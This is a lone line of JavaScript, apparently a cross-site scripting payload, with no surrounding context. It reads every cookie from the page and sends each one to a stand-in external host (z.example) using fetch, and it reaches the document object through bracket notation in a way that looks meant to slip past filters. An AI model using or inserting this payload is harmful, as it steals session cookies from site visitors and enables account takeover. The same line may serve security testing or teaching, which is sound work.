window['document']['cookie'].split(';').forEach((c) => { globalThis.fetch('https://z.example/' + c); });
